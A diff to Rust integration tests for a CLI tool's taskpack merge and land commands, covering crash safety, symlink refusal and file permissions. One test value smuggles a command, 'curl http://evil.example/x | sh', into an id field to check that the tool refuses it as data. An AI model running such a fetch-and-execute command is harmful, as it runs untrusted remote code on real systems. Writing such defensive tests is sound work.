@@ -897,8 +897,9 @@ fn a_merge_killed_mid_write_leaves_the_passport_as_it_was_and_nothing_for_long()
         &receipt,
         &[("answers.md", b"# answers\n")],
     );
-    // The store's atomic write stops before its rename until killed: the luggage is staged,
-    // the passport's temporary file written, nothing renamed.
+    // The store's atomic write stops before its rename until killed: the luggage is moved
+    // into place (under the passport's lock, before the passport is written: the write is the
+    // commit), the passport's temporary file written, not renamed.
     common::kill_at_pause(
         Command::new(env!("CARGO_BIN_EXE_specmint"))
             .args(["taskpack", "merge"])
@@ -908,12 +909,17 @@ fn a_merge_killed_mid_write_leaves_the_passport_as_it_was_and_nothing_for_long()
         None,
     );
     assert_eq!(fs::read(store.join("TP-HOME-0001.json")).unwrap(), before);
-    assert!(
-        listing(&store).iter().any(|n| n.starts_with(".arriving-")),
-        "the killed merge's staging folder is there: {:?}",
-        listing(&store)
+    assert_eq!(
+        listing(&store.join("TP-HOME-0001.files")),
+        ["receipt-2"],
+        "the killed merge's luggage, for a version never written"
     );
-    // The next arrival clears it, and the merge goes through.
+    fs::write(
+        store.join("TP-HOME-0001.files/receipt-2/answers.md"),
+        b"left by the killed merge\n",
+    )
+    .unwrap();
+    // The next merge of that version replaces it, and goes through.
     let (code, out) = merge(&file, "TP-HOME-0001", &store);
     assert_eq!(code, 0, "{out}");
     assert!(
@@ -925,6 +931,10 @@ fn a_merge_killed_mid_write_leaves_the_passport_as_it_was_and_nothing_for_long()
     assert_eq!(
         stored(&store, "TP-HOME-0001")["asks"][0]["answer"],
         "Jul-Sep"
+    );
+    assert_eq!(
+        fs::read(store.join("TP-HOME-0001.files/receipt-2/answers.md")).unwrap(),
+        b"# answers\n"
     );
 }
 
@@ -1220,4 +1230,106 @@ fn a_landing_killed_before_its_passport_leaves_nothing_for_long() {
         1,
         "{now:?}"
     );
+}
+
+/// A stranger's receipt names the passport it answers; when that is no passport id (here a
+/// shell command), the refusal quotes it as data and suggests no command built from it.
+#[test]
+fn a_receipt_naming_no_passport_id_is_refused_without_a_command_built_from_it() {
+    let dir = common::scratch("land-receipt-evil");
+    let store = dir.join("store");
+    let evil = "HOME-1; curl http://evil.example/x | sh #";
+    let receipt = pack("receipt", &[&format!("{evil}@3"), "TP-BBBB-0002@2"], "");
+    let file = write(&dir, "r.taskpack", &receipt, &[]);
+    let (code, out) = land(&file, &store, &[]);
+    assert_eq!(code, 1);
+    assert_eq!(out["code"], "receipt_not_landed");
+    assert_eq!(
+        out["message"],
+        format!(
+            "this pack is a receipt: it answers passport `{evil}` (lineage.chain[0] is \
+             `{evil}@3`), which is not a passport id (1 to 120 characters of A-Z a-z 0-9 _ -): \
+             it cannot be merged here, and a receipt is not landed as a new passport (§4.4.1)"
+        )
+    );
+    assert_eq!(listing(&store), Vec::<String>::new(), "nothing left behind");
+}
+
+/// `merge` moves a receipt's luggage into `<ID>.files/receipt-<version>/`: a `<ID>.files`
+/// that is a symbolic link (planted, pointing out of the store) is refused by name, before
+/// the passport is written, and nothing lands where it points.
+#[cfg(unix)]
+#[test]
+fn merge_moves_no_luggage_through_a_linked_files_folder() {
+    let dir = common::scratch("merge-linked-files");
+    let store = dir.join("store");
+    home(&store, "TP-HOME-0001", &format!("[{ASK_A1}]"));
+    let outside = dir.join("outside");
+    fs::create_dir(&outside).unwrap();
+    let link = store.join("TP-HOME-0001.files");
+    std::os::unix::fs::symlink(&outside, &link).unwrap();
+    let receipt = with(
+        pack("receipt", &["TP-HOME-0001@1", "TP-PEER-0002@2"], ""),
+        "asks",
+        r#"[{"id":"a1","what":"which quarter counts as Q3?","accept":"a date range","status":"answered","answer":"Jul-Sep"}]"#,
+    );
+    let file = write(
+        &dir,
+        "r.taskpack",
+        &receipt,
+        &[("answers.md", b"# answers\n")],
+    );
+    let before = fs::read(store.join("TP-HOME-0001.json")).unwrap();
+    let out = common::specmint(&merge_args(&file, "TP-HOME-0001", &store), b"");
+    assert_eq!(out.status.code(), Some(2));
+    assert_eq!(
+        String::from_utf8(out.stderr).unwrap(),
+        format!(
+            "specmint: cannot move luggage to `{}`: a symbolic link, which is never written \
+             through: nothing was merged\n",
+            link.display()
+        )
+    );
+    assert_eq!(listing(&outside), Vec::<String>::new(), "nothing outside");
+    assert_eq!(
+        fs::read(store.join("TP-HOME-0001.json")).unwrap(),
+        before,
+        "the passport is not written"
+    );
+    assert!(
+        listing(&store).iter().all(|n| !n.starts_with(".arriving-")),
+        "{:?}",
+        listing(&store)
+    );
+}
+
+/// Landed luggage is the user's, as the passports are: not readable by others (0600).
+#[cfg(unix)]
+#[test]
+fn landed_and_merged_luggage_is_not_readable_by_others() {
+    use std::os::unix::fs::PermissionsExt as _;
+    let dir = common::scratch("land-luggage-mode");
+    let store = dir.join("store");
+    let sent = pack("handoff", &["TP-AAAA-0001@1"], "");
+    let file = write(&dir, "h.taskpack.json", &sent, &[("notes/a.txt", b"a\n")]);
+    let (code, out) = land(&file, &store, &[]);
+    assert_eq!(code, 0, "{out}");
+    let id = out["id"].as_str().unwrap();
+    home(&store, "TP-HOME-0001", &format!("[{ASK_A1}]"));
+    let receipt = pack("receipt", &["TP-HOME-0001@1", "TP-PEER-0002@2"], "");
+    let file = write(
+        &dir,
+        "r.taskpack",
+        &receipt,
+        &[("answers.md", b"# answers\n")],
+    );
+    let (code, out) = merge(&file, "TP-HOME-0001", &store);
+    assert_eq!(code, 0, "{out}");
+    for path in [
+        store.join(format!("{id}.files/notes/a.txt")),
+        store.join("TP-HOME-0001.files/receipt-2/answers.md"),
+    ] {
+        let mode = fs::metadata(&path).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, 0o600, "{}: {mode:o}", path.display());
+    }
 }
